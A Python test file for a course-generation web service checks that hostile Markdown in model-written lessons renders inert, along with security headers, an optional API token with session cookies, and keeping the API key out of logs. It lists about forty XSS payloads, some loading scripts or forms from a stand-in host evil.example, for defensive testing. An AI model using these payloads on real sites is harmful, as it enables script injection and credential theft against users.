"""Security: hostile model output, response headers, the optional API token, and no key leaks."""

from __future__ import annotations

import logging
from collections.abc import Awaitable, Callable

import httpx
import pytest
from starlette.routing import Mount, Route

from coursegen.openapi import openapi_document
from coursegen.render import render_markdown
from coursegen_dev.fake_anthropic import FakeAnthropic
from tests.conftest import API_KEY, Running
from tests.htmlcheck import executable_parts


@pytest.fixture
def engine() -> str:
    """Rendering, headers and the token stand in front of every engine alike."""
    return "sqlite"


StartApp = Callable[..., Awaitable[Running]]

# Lesson texts a model could be tricked into writing. Each must render without anything
# that runs code, loads active content or restyles the page.
XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="java&#x09;script:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    "[x]: javascript:alert(1)\n\n[ref][x]",
    '<https://example.com/" onmouseover="alert(1)>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">cover</p>',
    "<style>body{display:none}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name="q"><button>go</button></form>',
    '<details open ontoggle="alert(1)">x</details>',
    '<body onload="alert(1)">',
    '<video><source onerror="alert(1)"></video>',
    '<a href="#" onclick="alert(1)">x</a>',
    "<!--><script>alert(1)</script>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "```\n</code><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    '<a href="https://ok.example" target="_blank">fine link</a>',
]


def test_the_corpus_is_large_enough() -> None:
    assert len(XSS_PAYLOADS) >= 30


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_hostile_markdown_renders_to_nothing_executable(payload: str) -> None:
    html = render_markdown(f"# Lesson\n\n{payload}\n\nAfter.")
    assert executable_parts(html) == []
    assert "After." in html  # the rest of the lesson survives


async def test_hostile_lessons_are_inert_through_the_api(
    running: Running, fake: FakeAnthropic
) -> None:
    fake.lesson_text = lambda title: "\n\n".join(XSS_PAYLOADS)
    created = await running.generate(lessons=1)
    await running.settle(created["job_id"])
    lesson = (
        await running.http.get(f"/api/lessons/{created['course']['lessons'][0]['id']}")
    ).json()
    assert lesson["content"] == "\n\n".join(XSS_PAYLOADS)  # the Markdown is kept as written
    assert executable_parts(lesson["content_html"]) == []


@pytest.mark.parametrize("path", ["/", "/index.html", "/api/health", "/api/courses", "/nope"])
async def test_every_response_carries_the_security_headers(running: Running, path: str) -> None:
    response = await running.http.get(path)
    csp = response.headers["content-security-policy"]
    assert "script-src 'self'" in csp and "'unsafe-inline'" not in csp
    assert "frame-ancestors 'none'" in csp and "object-src 'none'" in csp
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["referrer-policy"] == "no-referrer"
    assert response.headers["x-frame-options"] == "DENY"


@pytest.mark.parametrize("path", ["/", "/js/app.js", "/app.css"])
async def test_page_files_are_revalidated_on_every_load(running: Running, path: str) -> None:
    first = await running.http.get(path)
    assert first.status_code == 200
    assert first.headers["cache-control"] == "no-cache"
    again = await running.http.get(path, headers={"If-None-Match": first.headers["etag"]})
    assert again.status_code == 304


# -- the optional API token ---------------------------------------------------------------

TOKEN = "a-long-random-token-for-tests-3b8f"


async def test_without_a_token_setting_the_api_is_open_and_sign_in_is_off(
    running: Running,
) -> None:
    assert (await running.http.get("/api/courses")).status_code == 200
    response = await running.http.post("/api/session", json={"token": "x"})
    assert response.status_code == 404
    assert "COURSEGEN_API_TOKEN" in response.json()["error"]


async def test_with_a_token_every_api_request_needs_it(start_app: StartApp) -> None:
    running = await start_app(api_token=TOKEN)
    http = running.http
    for method, path in [
        ("GET", "/api/courses"),
        ("GET", "/api/health"),
        ("GET", "/api/openapi.json"),
        ("POST", "/api/courses/generate"),
        ("GET", "/api/events"),
        ("GET", "/api/jobs/00000000-0000-4000-8000-000000000000/events"),
        ("DELETE", "/api/courses/1"),
        ("GET", "/api/nothing"),
    ]:
        response = await http.request(method, path)
        assert response.status_code == 401, path
        assert "API token" in response.json()["error"]
        assert response.headers["www-authenticate"] == "Bearer"
        wrong = await http.request(method, path, headers={"Authorization": "Bearer nope"})
        assert wrong.status_code == 401
    # The page itself is not behind the token: it shows the sign-in form.
    assert (await http.get("/")).status_code == 200
    bearer = {"Authorization": f"Bearer {TOKEN}"}
    assert (await http.get("/api/courses", headers=bearer)).status_code == 200
    made = await http.post("/api/courses/generate", json={"topic": "Sourdough"}, headers=bearer)
    assert made.status_code == 201


async def test_signing_in_sets_a_session_cookie_the_page_can_use(start_app: StartApp) -> None:
    running = await start_app(api_token=TOKEN)
    http = running.http
    refused = await http.post("/api/session", json={"token": "wrong"})
    assert refused.status_code == 401
    assert "coursegen_session" not in http.cookies
    signed_in = await http.post("/api/session", json={"token": TOKEN})
    assert signed_in.status_code == 204
    cookie = signed_in.headers["set-cookie"]
    assert "HttpOnly" in cookie and "SameSite=strict" in cookie and "Path=/api" in cookie
    assert TOKEN not in cookie  # the cookie holds an HMAC of the token
    assert (await http.get("/api/courses")).status_code == 200
    signed_out = await http.delete("/api/session")
    assert signed_out.status_code == 204
    assert (await http.get("/api/courses")).status_code == 401
    http.cookies.set("coursegen_session", "forged", domain="localhost", path="/api")
    assert (await http.get("/api/courses")).status_code == 401


async def test_the_token_guards_the_api_behind_a_proxy_prefix_too(start_app: StartApp) -> None:
    running = await start_app(api_token=TOKEN)
    transport = httpx.ASGITransport(app=running.asgi, root_path="/coursegen")
    async with httpx.AsyncClient(transport=transport, base_url="http://localhost") as http:
        assert (await http.get("/coursegen/api/courses")).status_code == 401
        signed_in = await http.post("/coursegen/api/session", json={"token": TOKEN})
        assert signed_in.status_code == 204
        assert "Path=/coursegen/api" in signed_in.headers["set-cookie"]
        assert (await http.get("/coursegen/api/courses")).status_code == 200
        assert (await http.get("/coursegen/")).status_code == 200


# -- the OpenAPI document ---------------------------------------------------------------


async def test_the_openapi_document_describes_every_route(running: Running) -> None:
    served = (await running.http.get("/api/openapi.json")).json()
    assert served == openapi_document()
    assert served["openapi"].startswith("3.1")
    (api,) = [r for r in running.app.routes if isinstance(r, Mount) and r.path == "/api"]
    routes = {
        (f"/api{route.path.replace(':id}', '}')}", method.lower())
        for route in api.routes
        if isinstance(route, Route)
        for method in route.methods or ()
        if method != "HEAD"
    }
    documented = {
        (path, method)
        for path, item in served["paths"].items()
        for method in item
        if method in ("get", "post", "delete", "put", "patch")
    }
    assert routes - {("/api/session", "post"), ("/api/session", "delete")} == documented


# -- the API key stays secret --------------------------------------------------------------


async def test_the_api_key_never_reaches_a_log_line(
    running: Running, fake: FakeAnthropic, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    fake.add_fault(kind="outline", status=401)
    assert (
        await running.http.post("/api/courses/generate", json={"topic": "x y z"})
    ).status_code == 502
    fake.add_fault(kind="lesson", status=500)
    fake.add_fault(kind="lesson", status=401)
    created = await running.generate(lessons=3)
    await running.settle(created["job_id"])
    assert caplog.records  # the SDK and the service did log at DEBUG
    assert API_KEY not in caplog.text


@pytest.mark.parametrize(
    "html",
    [
        "<script>x</script>",
        '<img src="x" onerror="y">',
        '<a href="javascript:x">a</a>',
        '<a href=" JaVa\tScRiPt:x">a</a>',
        '<img src="data:image/svg+xml,x">',
        '<p style="color:red">x</p>',
        "<iframe></iframe>",
        "<svg></svg>",
    ],
)
def test_the_checker_catches_what_it_looks_for(html: str) -> None:
    assert executable_parts(html) != []
